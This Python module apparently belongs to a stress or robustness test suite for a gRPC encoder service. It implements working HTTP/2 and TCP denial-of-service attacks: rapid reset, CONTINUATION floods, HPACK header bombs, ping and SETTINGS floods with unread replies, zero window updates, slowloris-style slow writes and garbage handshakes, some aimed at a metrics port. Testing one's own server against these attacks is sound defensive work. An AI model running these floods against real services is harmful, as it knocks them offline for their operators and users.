"""What can be done to a connection below gRPC: frames, streams, silence and garbage. Each attack is
given an address, and holds what it opens in the stack."""

from __future__ import annotations

import os
import time
from collections.abc import Callable, Iterable
from contextlib import ExitStack
from dataclasses import dataclass

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
)

from .prober import ENCODE
from .wire import PREFACE, RawConnection, begin, block_of, headers_of

_STREAM_PATH = "/bilstm.v1.EncoderService/EncodeStream"
_FRAME_BYTES = 16_384
_CANCEL = 8

Run = Callable[[str, ExitStack], None]


@dataclass(frozen=True, slots=True)
class Flood:
    sent: str
    run: Run
    hold_seconds: float = 0.0  # that its connections stay
    on_metrics: bool = False  # the other port


def _connections(target: str, held: ExitStack, count: int) -> list[RawConnection]:
    return [held.enter_context(RawConnection(target)) for _ in range(count)]


def _reset(block: bytes, streams: Iterable[int]) -> bytes:
    return b"".join(
        begin(stream, block) + RstStreamFrame(stream, _CANCEL).serialize() for stream in streams
    )


def _rapid_reset(connections: int, streams: int) -> Run:
    def run(target: str, held: ExitStack) -> None:
        data = _reset(block_of(ENCODE), range(1, 2 * streams, 2))
        for connection in _connections(target, held, connections):
            connection.send(data)
            connection.read()

    return run


def _open(path: str, connections: int, streams: int, *more: tuple[str, str]) -> Run:
    """Calls of which nothing but the headers comes."""

    def run(target: str, held: ExitStack) -> None:
        block = block_of(path, *more)
        data = b"".join(begin(stream, block) for stream in range(1, 2 * streams, 2))
        for connection in _connections(target, held, connections):
            connection.send(data)
            connection.read()

    return run


def _frames(connections: int, count: int, unit: bytes, first: bytes = b"") -> Run:
    """The same frame again and again, its answers read."""

    def run(target: str, held: ExitStack) -> None:
        opened = _connections(target, held, connections)
        for connection in opened:
            connection.send(first)
        for _ in range(0, count, 1_000 * connections):
            for connection in opened:
                connection.send(1_000 * unit)
        for connection in opened:
            connection.read()

    return run


def _continued(target: str, held: ExitStack) -> None:
    """Headers that never end."""
    (connection,) = _connections(target, held, 1)
    literal = Encoder().encode([NeverIndexedHeaderTuple("x", "a" * 1_000)], huffman=False)
    part = literal * (_FRAME_BYTES // len(literal))
    connection.send(HeadersFrame(1, block_of(ENCODE)).serialize())
    for _ in range(4_000):
        connection.send(ContinuationFrame(1, part).serialize())


def _large_metadata(target: str, held: ExitStack) -> None:
    """1 MB of it in each of 200 calls, within the rules of HTTP/2."""
    (connection,) = _connections(target, held, 1)
    literal = Encoder().encode([NeverIndexedHeaderTuple("x", "a" * 1_000)], huffman=False)
    part = literal * (_FRAME_BYTES // len(literal))
    for number in range(200):
        stream = 2 * number + 1
        data = HeadersFrame(stream, block_of(ENCODE)).serialize()
        data += 63 * ContinuationFrame(stream, part).serialize()
        connection.send(data + ContinuationFrame(stream, part, flags=["END_HEADERS"]).serialize())


def _header_bomb(target: str, held: ExitStack) -> None:
    """One byte on the wire, 4 kB of headers: 15 thousand times in each of 500 calls."""
    (connection,) = _connections(target, held, 1)
    encoder = Encoder()
    first = encoder.encode([*headers_of(ENCODE), ("x", "a" * 3_000)])
    once = encoder.encode([("x", "a" * 3_000)])  # in the table now: an index
    connection.send(begin(1, first))
    for stream in range(3, 1_003, 2):
        connection.send(begin(stream, block_of(ENCODE) + once * (15_000 // len(once))))


def _settings_unread(target: str, held: ExitStack) -> None:
    """Each asks for an acknowledgement, which stays where it is."""
    data = 1_000 * SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
    for connection in _connections(target, held, 10):
        connection.send(data * 10)


def _pings_unread(target: str, held: ExitStack) -> None:
    """As the pings, but their answers are not read: the peer has to keep them."""
    connection = _connections(target, held, 1)[0]
    ping = 1_000 * PingFrame(0, b"12345678").serialize()
    socket_of = os.dup(connection.fileno())
    held.callback(os.close, socket_of)
    for _ in range(200):
        try:
            os.write(socket_of, ping)
        except OSError:
            return


def _silent(count: int) -> Run:
    def run(target: str, held: ExitStack) -> None:
        for _ in range(count):
            held.enter_context(RawConnection(target, b""))

    return run


def _garbage(data: bytes, count: int) -> Run:
    def run(target: str, held: ExitStack) -> None:
        for _ in range(count):
            held.enter_context(RawConnection(target, data)).read()

    return run


def _slow(data: bytes, connections: int, seconds: float) -> Run:
    """A byte of it every half second."""

    def run(target: str, held: ExitStack) -> None:
        opened = [held.enter_context(RawConnection(target, b"")) for _ in range(connections)]
        until = time.perf_counter() + seconds
        for position in range(len(data)):
            for connection in opened:
                connection.send(data[position : position + 1])
            time.sleep(0.5)
            if time.perf_counter() > until:
                return

    return run


# The version, a handshake of 508 bytes, and zeros in place of what it holds.
CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(505)
_NO_WINDOW = b"\0\0\4\x08\0\0\0\0\0" + bytes(4)  # hyperframe refuses to write it
HTTP1 = b"GET / HTTP/1.1\r\nHost: localhost\r\n"

FLOODS = (
    Flood("100,000 streams opened and reset, by 20", _rapid_reset(20, 5_000)),
    Flood("10,000 calls of headers only, by 10", _open(ENCODE, 10, 1_000), 10.0),
    Flood("10,000 streams of headers only, by one", _open(_STREAM_PATH, 1, 10_000), 5.0),
    Flood("10,000 calls of methods that do not exist", _open("/a/b", 10, 1_000)),
    Flood("200,000 pings, by 20", _frames(20, 200_000, PingFrame(0, b"12345678").serialize())),
    Flood("200,000 pings by one, answers unread", _pings_unread, 2.0),
    Flood("headers that never end, 64 MB", _continued, 2.0),
    Flood("200 calls with 1 MB of metadata", _large_metadata, 2.0),
    Flood("500 header bombs of 45 MB each", _header_bomb, 2.0),
    Flood(
        "200,000 SETTINGS, by 20",
        _frames(20, 200_000, SettingsFrame(0, {SettingsFrame.MAX_FRAME_SIZE: 16_384}).serialize()),
    ),
    Flood("100,000 SETTINGS by 10, answers unread", _settings_unread, 2.0),
    Flood("200,000 updates of the window by zero, by 20", _frames(20, 200_000, _NO_WINDOW)),
    Flood("200,000 PRIORITY frames, by 20", _frames(20, 200_000, PriorityFrame(1).serialize())),
    Flood(
        "200,000 empty DATA frames, by 20",
        _frames(20, 200_000, DataFrame(1).serialize(), begin(1, block_of(ENCODE))),
    ),
    Flood("1,000 silent TCP connections", _silent(1_000), 5.0),
    Flood("1,000 TLS hellos", _garbage(CLIENT_HELLO, 1_000)),
    Flood("1,000 requests of HTTP/1.1", _garbage(HTTP1 + b"\r\n", 1_000)),
    Flood("1,000 times 64 kB at random", _garbage(os.urandom(65_536), 1_000)),
    Flood("200 prefaces, two bytes a second", _slow(PREFACE, 200, 8.0)),
    Flood("500 silent connections to the metrics port", _silent(500), 5.0, on_metrics=True),
    Flood(
        "200 slow requests to the metrics port",
        _slow(HTTP1, 200, 8.0),
        on_metrics=True,
    ),
)
